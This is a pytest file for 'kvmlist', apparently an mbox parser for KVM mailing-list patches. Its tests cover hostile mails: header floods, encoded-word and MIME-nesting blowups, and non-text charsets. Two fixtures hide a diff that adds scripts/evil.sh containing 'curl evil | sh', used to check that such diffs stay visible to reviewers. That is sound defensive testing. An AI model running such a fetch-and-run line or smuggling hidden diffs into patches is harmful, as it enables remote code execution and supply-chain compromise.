"""Hostile single mails: what a sender can do to one mail costs what the mail's size costs."""

from __future__ import annotations

import tracemalloc
from pathlib import Path

import pytest

import kvmlist
from kvmlist.cli.commands import main
from kvmlist.errors import MessageParseError
from kvmlist.parse.headers import decode_words
from kvmlist.parse.message import parse_message
from kvmlist.sources.reader import parse_raw

from .conftest import mail, mbox
from .scaling import LINEAR_BOUND, growth

PATCH_BODY = (
    "Fix the thing.\n\nSigned-off-by: Jane Doe <jane@example.org>\n---\n"
    " arch/x86/kvm/x86.c | 1 +\n 1 file changed, 1 insertion(+)\n\n"
    "diff --git a/arch/x86/kvm/x86.c b/arch/x86/kvm/x86.c\n"
    "--- a/arch/x86/kvm/x86.c\n+++ b/arch/x86/kvm/x86.c\n@@ -1 +1,2 @@\n a\n+b\n"
)


def _kinds(message: kvmlist.Message) -> dict[str, int]:
    return {d.kind: d.count for d in message.defects}


# --- defect amplification --------------------------------------------------------------


def test_repeated_malformed_lines_become_one_defect_with_a_count() -> None:
    raw = b"this is not a header\n" * 200_000 + mail(body=PATCH_BODY)
    tracemalloc.start()
    try:
        message = parse_message(raw)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(message, kvmlist.Patch)
    assert _kinds(message)["malformed-header-line"] == 200_000
    assert len(message.defects) < 5
    first = next(d for d in message.defects if d.kind == "malformed-header-line")
    assert first.detail == "this is not a header"
    assert "200000" in str(first) or "200,000" in str(first)
    assert peak < 6 * len(raw)


@pytest.mark.parametrize("line", [b"x\n", b" folded\n"], ids=["malformed", "continuation"])
def test_millions_of_short_header_lines_take_memory_near_the_mail_size(line: bytes) -> None:
    raw = mail(extra="Received: from a by b\n" + line.decode() * 2_000_000)
    parse_message(raw)  # imports and caches
    tracemalloc.start()
    try:
        message = parse_message(raw)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert message.message_id == "1@example.org"
    assert peak < 4 * len(raw)


def test_the_lazy_body_does_not_multiply_defects_either() -> None:
    raw = b"this is not a header\n" * 200_000 + mail(subject="Re: x")
    (message,) = parse_raw([raw])
    tracemalloc.start()
    try:
        assert message.body.startswith("Fix it.")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * len(raw)


def test_distinct_defects_stay_apart() -> None:
    raw = mail(sender="nobody", date="not a date", body=PATCH_BODY)
    kinds = _kinds(parse_message(raw))
    assert kinds["bad-from"] == 1 and kinds["bad-date"] == 1


def test_a_collapsed_defect_round_trips_through_json() -> None:
    message = parse_message(b"junk\n" * 3 + mail(body=PATCH_BODY))
    again = type(message).model_validate_json(message.model_dump_json())
    assert again.defects == message.defects


# --- RFC 2047 encoded words: linear, and still right --------------------------------------


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("=?utf-8?q?Radim_Kr=C4=8Dm=C3=A1=C5=99?=", "Radim Krčmář"),
        (
            "=?UTF-8?B?UmFkaW0gS3LEjW3DocWZ?= <rkrcmar@redhat.com>",
            "Radim Krčmář <rkrcmar@redhat.com>",
        ),
        ("=?iso-8859-1?q?J=F6rg?= =?iso-8859-1?q?_R=F6del?=", "Jörg Rödel"),
        ("[PATCH] =?utf-8?q?caf=C3=A9?= fix", "[PATCH] café fix"),
        ("=?utf-8?b?4oCc?= =?utf-8?b?cXVvdGVk4oCd?=", "\u201cquoted\u201d"),
        ("=?utf-8?q?=E2=80?= =?utf-8?q?=9C?=x", "\u201cx"),  # a character split across words
        ("=?utf-8*en?q?hello?=", "hello"),  # RFC 2231 language tag
        ("plain   text\twith  space", "plain text with space"),
        ("=?x?q?a unterminated", "=?x?q?a unterminated"),
    ],
)
def test_encoded_words_decode(value: str, text: str) -> None:
    assert decode_words(value, []) == text


def test_an_unknown_charset_in_an_encoded_word_is_a_defect() -> None:
    defects: list[kvmlist.Defect] = []
    assert decode_words("=?klingon?q?Qapla=E9?=", defects) == "Qaplaé"
    assert [d.kind for d in defects] == ["unknown-charset"]


def test_broken_base64_in_an_encoded_word_is_a_defect() -> None:
    defects: list[kvmlist.Defect] = []
    decode_words("=?utf-8?b?!!!?=", defects)
    assert [d.kind for d in defects] == ["bad-encoded-word"]


@pytest.mark.parametrize("field", ["Subject", "From", "X-Original-From", "Reply-To"])
def test_unterminated_encoded_words_cost_linear_time(field: str) -> None:
    def work(n: int) -> kvmlist.Message:
        value = "=?x?q?a " * n
        if field == "Subject":
            return parse_message(mail(subject=value))
        if field == "From":
            return parse_message(mail(sender=value + "<jane@example.org>"))
        munged = "Jane Doe via kvm <kvm@vger.kernel.org>"
        return parse_message(mail(sender=munged, extra=f"{field}: {value}<j@x.org>\n"))

    message = work(10)
    assert message.message_id == "1@example.org"
    assert growth(work, 3_000) < LINEAR_BOUND


# --- MIME parameters ------------------------------------------------------------------------


def test_a_content_type_with_many_parameters_costs_linear_time() -> None:
    def work(n: int) -> str:
        ctype = "text/plain" + "; x" * n + '; charset="utf-8"'
        extra = f"MIME-Version: 1.0\nContent-Type: {ctype}\nContent-Transfer-Encoding: base64\n"
        message = parse_message(mail(extra=extra, body="Rml4IGl0Lgo=\n"))
        return message.body

    assert work(10) == "Fix it.\n"
    assert growth(work, 5_000) < LINEAR_BOUND


# --- charsets that are not text codecs --------------------------------------------------------


def _with_charset(charset: str, multipart: bool) -> bytes:
    body = PATCH_BODY.replace("thing", "th\xefng")
    ctype = f'Content-Type: text/plain; charset="{charset}"\n'
    if not multipart:
        return mail(extra=ctype, body=body)
    extra = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n'
    return mail(extra=extra, body=f"--b\n{ctype}\n{body}\n--b--\n")


@pytest.mark.parametrize("multipart", [False, True], ids=["single", "multipart"])
@pytest.mark.parametrize("charset", ["rot13", "base64", "hex", "zlib", "utf-8\x00", "utf-\x008"])
def test_a_non_text_charset_is_a_defect_not_a_lost_patch(charset: str, multipart: bool) -> None:
    message = parse_message(_with_charset(charset, multipart))
    assert isinstance(message, kvmlist.Patch)
    assert message.message_id == "1@example.org"
    assert message.author == kvmlist.Person(name="Jane Doe", email="jane@example.org")
    assert {"unknown-charset", "nul-in-header"} & set(_kinds(message))
    assert message.has_diff and "+b" in message.diff


@pytest.mark.parametrize("charset", ["rot13", "base64", "uu_codec"])
def test_a_non_text_charset_in_an_encoded_word_is_a_defect(charset: str) -> None:
    message = parse_message(mail(subject=f"Re: =?{charset}?q?caf=E9?= crash"))
    assert message.subject == "Re: café crash"
    assert "unknown-charset" in _kinds(message)


def test_a_reply_with_a_non_text_charset_does_not_crash_commands(tmp_path: Path) -> None:
    reply = mail(
        subject="Re: [PATCH] KVM: x86: Fix a thing",
        message_id="<2@example.org>",
        extra='In-Reply-To: <1@example.org>\nContent-Type: text/plain; charset="rot13"\n',
        body="> Fix it.\n\nReviewed-by: Bo Li <b\xefo@example.org>\n",
    )
    path = tmp_path / "list.mbox"
    path.write_bytes(mbox(mail(body=PATCH_BODY), reply))
    for command in (["report"], ["review"], ["check"], ["series"]):
        assert main([*command, str(path)]) == 0, command


# --- recursion ----------------------------------------------------------------------------------


def _nested_multipart(depth: int) -> bytes:
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(1, depth)
    )
    extra = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b0"\n'
    return mail(extra=extra, body="--b0\n" + opening + "Content-Type: text/plain\n\n" + PATCH_BODY)


def test_multipart_nested_thousands_deep_is_a_defect() -> None:
    message = parse_message(_nested_multipart(3_000))
    assert isinstance(message, kvmlist.Patch)
    assert message.author is not None and message.author.email == "jane@example.org"
    assert "mime-too-deep" in _kinds(message)


def test_multipart_nesting_costs_linear_time() -> None:
    assert growth(lambda n: parse_message(_nested_multipart(n)).body, 500) < LINEAR_BOUND


def test_deep_nesting_in_strict_mode_raises_message_parse_error() -> None:
    with pytest.raises(MessageParseError, match="mime-too-deep"):
        parse_message(_nested_multipart(3_000), strict=True)


@pytest.mark.parametrize("sender", ["a@b.c " + "(" * 494, "(" * 5_000 + "a@b.c", "<" * 5_000])
def test_deeply_nested_comments_in_from_are_a_bad_from(sender: str) -> None:
    message = parse_message(mail(sender=sender, body=PATCH_BODY))
    assert isinstance(message, kvmlist.Patch)
    assert "bad-from" in _kinds(message)
    with pytest.raises(MessageParseError):
        parse_message(mail(sender=sender, body=PATCH_BODY), strict=True)


# --- lazy paths and what is never swallowed --------------------------------------------------


def test_a_failing_body_decoder_leaves_a_defect_not_a_crash(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import kvmlist.parse.mime as mime

    message = parse_message(mail(subject="Re: x", body="hello\n"))

    def broken(*args: object, **kwargs: object) -> str:
        raise ValueError("boom")

    monkeypatch.setattr(mime, "decode_text", broken)
    assert message.body == ""
    decoded = mime.decode_body(message.raw)
    assert [d.kind for d in decoded.defects] == ["undecodable-body"]


def test_an_unparsable_mail_keeps_what_could_be_read(monkeypatch: pytest.MonkeyPatch) -> None:
    import kvmlist.parse.message as parser

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(parser, "parse_subject", broken)
    (message,) = parse_raw([mail(body=PATCH_BODY)])
    assert _kinds(message) == {"unparsable": 1}
    assert message.message_id == "1@example.org"
    assert message.subject == "[PATCH] KVM: x86: Fix a thing"
    assert message.sender == kvmlist.Person(name="Jane Doe", email="jane@example.org")


def test_memory_error_is_not_a_defect(monkeypatch: pytest.MonkeyPatch) -> None:
    import kvmlist.sources.reader as reader

    def exhausted(*args: object, **kwargs: object) -> None:
        raise MemoryError

    monkeypatch.setattr(reader, "parse_message", exhausted)
    with pytest.raises(MemoryError):
        list(parse_raw([mail()]))


def test_commands_say_on_stderr_that_mails_were_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import kvmlist.parse.message as parser

    real = parser.parse_subject

    def flaky(subject: str) -> object:
        if "two" in subject:
            raise RuntimeError("a bug")
        return real(subject)

    monkeypatch.setattr(parser, "parse_subject", flaky)
    path = tmp_path / "list.mbox"
    path.write_bytes(mbox(mail("[PATCH] one", message_id="<1@x>"), mail("[PATCH] two")))
    assert main(["stats", str(path)]) == 0
    captured = capsys.readouterr()
    assert "Jane Doe" in captured.out
    assert "1 mail could not be parsed" in captured.err


def test_a_message_id_of_brackets_only_is_a_missing_one_not_a_crash() -> None:
    # "< <" stripped of its brackets is blank: it once raised IndexError in parse_message
    for value in ("< <", "<> <", "< >", "(<>)"):
        message = kvmlist.parse_message(
            f"From: a <a@b.org>\nSubject: x\nMessage-ID: {value}\n\nbody\n".encode()
        )
        assert message.message_id.endswith("@synthetic.invalid"), value
        assert [d.kind for d in message.defects][:1] == ["missing-message-id"], value


def test_long_charset_labels_are_unknown_and_not_remembered() -> None:
    # labels are remembered (text_codec, 256 of them): a megabyte label must not be
    from kvmlist.parse.headers import text_codec

    text_codec.cache_clear()
    label = "x" * 200_000
    raw = f"From: a <a@b.org>\nSubject: =?{label}?q?caf=E9?=\n\nbody\n".encode()
    message = kvmlist.parse_message(raw)
    assert [d.kind for d in message.defects if d.kind == "unknown-charset"] == ["unknown-charset"]
    assert message.subject == "café"  # read as the fallback charsets read it
    assert text_codec.cache_info().currsize == 0  # the label was never looked up


def test_a_diff_under_an_interdiff_label_is_still_the_patchs_diff() -> None:
    # git am applies it: a parser that took "Interdiff against v1:" (which git writes above a
    # cover letter's interdiff) as the end of the patch's diff hid a new script from review
    raw = (
        b"From: Jane Doe <jane@example.org>\nTo: kvmarm@lists.linux.dev\n"
        b"Subject: [PATCH] KVM: arm64: tidy reset\nDate: Mon, 1 Dec 2025 10:00:00 +0000\n"
        b"Message-ID: <evil-1@example.org>\n\nTidy the reset code.\n\n"
        b"Signed-off-by: Jane Doe <jane@example.org>\n---\nInterdiff against v1:\n"
        b"diff --git a/scripts/evil.sh b/scripts/evil.sh\nnew file mode 100755\n"
        b"index 0000000..1111111\n--- /dev/null\n+++ b/scripts/evil.sh\n@@ -0,0 +1 @@\n"
        b"+curl evil | sh\n"
    )
    patch = parse_message(raw)
    assert isinstance(patch, kvmlist.Patch)
    assert patch.has_diff and "patch-without-diff" not in {d.kind for d in patch.defects}
    assert [f.path for f in patch.diffstat.files] == ["scripts/evil.sh"]


def test_a_diff_below_the_signature_is_still_the_patchs_diff() -> None:
    # git am hands git apply everything below "---": a diff after git's "-- " signature is
    # applied too, so it must be in the diff every reader of kvmlist sees (and checks)
    raw = (
        b"From: Eve Sender <eve@example.org>\nTo: kvmarm@lists.linux.dev\n"
        b"Subject: [PATCH] KVM: arm64: fix reset\nDate: Mon, 7 Dec 2026 10:00:00 +0000\n"
        b"Message-ID: <after-sig@example.org>\n\nFix a thing in reset.\n\n"
        b"Signed-off-by: Eve Sender <eve@example.org>\n---\n"
        b" arch/arm64/kvm/reset.c | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)\n\n"
        b"diff --git a/arch/arm64/kvm/reset.c b/arch/arm64/kvm/reset.c\n"
        b"index 698cbc1..8fda149 100644\n"
        b"--- a/arch/arm64/kvm/reset.c\n+++ b/arch/arm64/kvm/reset.c\n@@ -1,2 +1,2 @@\n int x;\n"
        b"-int y;\n+int yy;\n-- \n2.39.5\n\n"
        b"diff --git a/scripts/evil.sh b/scripts/evil.sh\nnew file mode 100755\n"
        b"index 0000000..3e75765\n--- /dev/null\n+++ b/scripts/evil.sh\n@@ -0,0 +1 @@\n"
        b"+curl evil | sh\n"
    )
    patch = parse_message(raw)
    assert isinstance(patch, kvmlist.Patch)
    assert [f.path for f in patch.diffstat.files] == ["arch/arm64/kvm/reset.c", "scripts/evil.sh"]
    assert [d.kind for d in patch.diffstat_defects] == ["diffstat-mismatch"]
